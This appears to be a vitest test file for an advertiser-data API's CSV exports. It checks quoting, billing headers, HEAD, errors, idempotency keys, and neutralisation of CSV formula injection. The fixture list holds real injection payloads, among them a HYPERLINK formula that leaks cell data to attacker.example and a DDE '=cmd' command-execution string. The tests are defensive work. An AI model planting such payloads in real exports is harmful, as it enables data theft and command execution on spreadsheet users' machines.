import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingestObservations } from '../../src/ingest/index.ts';
import type { TestApi } from '../support/api.ts';
import { createFixtureApi, NOW } from '../support/fixture.ts';

/** A name that needs every kind of quoting, sending ads to the fixture's brand domain. */
const AWKWARD_NAME = 'Quote "Co", Ltd\nBerlin';
const AWKWARD = [
  {
    creative_id: 'q1',
    advertiser_id: 'AR777',
    advertiser_name: AWKWARD_NAME,
    country: 'DE',
    landing_url: 'https://acme-outdoor.com/q',
    seen_on: '2026-11-01',
  },
];

/**
 * Names a spreadsheet would run as formulas (OWASP's CSV injection), each sending ads to a brand
 * domain of their own, with a history and landing domains like any advertiser's.
 */
const FORMULA_NAMES = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1)',
  '+49 Media',
  '-2+3 Ads',
  '\tTabbed Ads',
  '\rReturned Ads',
];
const FORMULA_BRAND = 'formula-brand.com';
const HOSTILE = FORMULA_NAMES.map((name, i) => ({
  creative_id: `f${i}`,
  advertiser_id: `AR88${i}`,
  advertiser_name: name,
  country: 'DE',
  landing_url: `https://${FORMULA_BRAND}/f${i}`,
  seen_on: '2026-11-02',
}));

/** An RFC 4180 reader, written apart from the service's writer: the records of `text`. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  expect(record, 'the last line ends with CRLF').toEqual([]);
  return records;
}

const CSV = { accept: 'text/csv' };

describe('exports: Accept: text/csv on the history, landing domains and brand-bid report', () => {
  let api: TestApi;
  let key: string;
  beforeAll(async () => {
    ({ api, key } = await createFixtureApi((sql) => ingestObservations(sql, [...AWKWARD, ...HOSTILE], { today: NOW })));
  });
  afterAll(async () => {
    await api.close();
  });

  for (const [path, list, price] of [
    ['/api/v1/advertiser/history?name=Acme%20Outdoor%20GmbH', 'months', 9],
    ['/api/v1/advertiser/domains?name=Clickwave%20Media%20Ltd', 'landing_domains', 15],
    ['/api/v1/brandbid?domain=acme-outdoor.com', 'advertisers', 60],
  ] as const) {
    const rule = "the JSON list's rows in its order under a header row of its fields, billed like JSON";
    it(`${path.split('?')[0]}: ${rule}`, async () => {
      const json = await api.request(path, { key });
      const csv = await api.request(path, { key, headers: CSV });
      expect(csv.status).toBe(200);
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
      expect(csv.headers.get('x-credits-charged')).toBe(String(price));
      expect(Number(csv.headers.get('x-credits-remaining'))).toBe(json.body.credits_remaining - price);
      const rows = json.body[list] as Record<string, unknown>[];
      const [header, ...records] = readCsv(csv.text);
      expect(header).toEqual(Object.keys(rows[0]));
      expect(records).toEqual(rows.map((row) => Object.values(row).map(String)));
    });
  }

  it('a field with a comma, a double quote or a line break is quoted, its quotes doubled', async () => {
    const csv = await api.request('/api/v1/brandbid?domain=acme-outdoor.com', { key, headers: CSV });
    expect(csv.text).toContain('\r\n"Quote ""Co"", Ltd\nBerlin",AR777,1,2026-11-01,2026-11-01,1,single_domain\r\n');
    expect(readCsv(csv.text).map((record) => record[0])).toContain(AWKWARD_NAME);
  });

  const FORMULA_RULE =
    'a text cell that a spreadsheet would run as a formula starts with an apostrophe; numbers stay numbers';
  it(FORMULA_RULE, async () => {
    const path = `/api/v1/brandbid?domain=${FORMULA_BRAND}`;
    const csv = await api.request(path, { key, headers: CSV });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain('\r\n"\'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")",AR880,1,');
    expect(csv.text).toContain("\r\n'=cmd|' /C calc'!A0,AR881,1,2026-11-02,2026-11-02,1,single_domain\r\n");
    expect(csv.text).toContain("\r\n'@SUM(1),AR882,1,");
    const [header, ...records] = readCsv(csv.text);
    const byId = new Map(records.map((record) => [record[header.indexOf('advertiser_id')], record]));
    for (const [i, name] of FORMULA_NAMES.entries()) {
      const record = byId.get(`AR88${i}`)!;
      expect(record[header.indexOf('advertiser')], name).toBe(`'${name}`);
      expect(record[header.indexOf('creatives')], name).toBe('1');
    }
    // The JSON of the same report keeps every name exactly as stored.
    const json = await api.request(path, { key });
    const names = (json.body.advertisers as { advertiser: string }[]).map((row) => row.advertiser);
    expect(names.sort()).toEqual([...FORMULA_NAMES].sort());
  });

  it('no CSV export of an advertiser with a formula name holds a cell that starts a formula', async () => {
    const { key: funded } = await api.newKey(5_000);
    const paths = FORMULA_NAMES.flatMap((name) => [
      [`/api/v1/advertiser/history?name=${encodeURIComponent(name)}`, name],
      [`/api/v1/advertiser/domains?name=${encodeURIComponent(name)}`, name],
    ]);
    for (const [path, name] of [...paths, [`/api/v1/brandbid?domain=${FORMULA_BRAND}`, null]]) {
      const csv = await api.request(path!, { key: funded, headers: CSV });
      expect([path, csv.status]).toEqual([path, 200]);
      const cells = readCsv(csv.text).flat();
      expect(cells.length, path!).toBeGreaterThan(3);
      expect(
        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
        path!,
      ).toEqual([]);
      if (name !== null) expect((await api.request(path!, { key: funded })).body.advertiser, path!).toBe(name);
    }
  });

  it('capped lists carry X-Total-Count and X-Truncated', async () => {
    const brandBid = await api.request('/api/v1/brandbid?domain=acme-outdoor.com', { key, headers: CSV });
    expect([brandBid.headers.get('x-total-count'), brandBid.headers.get('x-truncated')]).toEqual(['4', 'false']);
    const domains = await api.request('/api/v1/advertiser/domains?name=Clickwave%20Media%20Ltd', { key, headers: CSV });
    expect([domains.headers.get('x-total-count'), domains.headers.get('x-truncated')]).toEqual(['3', 'false']);
  });

  it('HEAD in CSV answers the GET headers, Content-Length included, without the body', async () => {
    const path = '/api/v1/brandbid?domain=acme-outdoor.com';
    const get = await api.request(path, { key, headers: CSV });
    const head = await api.request(path, { key, method: 'HEAD', headers: CSV });
    expect(head.status).toBe(200);
    expect(head.text).toBe('');
    expect(head.headers.get('content-length')).toBe(String(Buffer.byteLength(get.text)));
    expect(head.headers.get('content-type')).toBe(get.headers.get('content-type'));
  });

  it('a data 404 in CSV is the JSON error, charged as always', async () => {
    const response = await api.request('/api/v1/brandbid?domain=zzyzx-qwv.org', { key, headers: CSV });
    expect(response.status).toBe(404);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect(response.body).toMatchObject({ error: 'not_found', credits_charged: 60 });
  });

  const KEY_AND_FORMAT =
    'an Idempotency-Key stands for its format: its CSV retry replays the CSV, the same key in JSON is 422';
  it(KEY_AND_FORMAT, async () => {
    const path = '/api/v1/advertiser/history?name=Acme%20Outdoor%20GmbH';
    const headers = { ...CSV, 'idempotency-key': 'csv-export-1' };
    const first = await api.request(path, { key, headers });
    const retry = await api.request(path, { key, headers });
    expect(retry.headers.get('idempotent-replayed')).toBe('true');
    expect(retry.headers.get('x-credits-charged')).toBe('0');
    expect(retry.text).toBe(first.text);
    expect(retry.headers.get('content-type')).toBe(first.headers.get('content-type'));
    const json = await api.request(path, { key, headers: { 'idempotency-key': 'csv-export-1' } });
    expect([json.status, json.body.error]).toEqual([422, 'idempotency_key_reused']);
  });
});
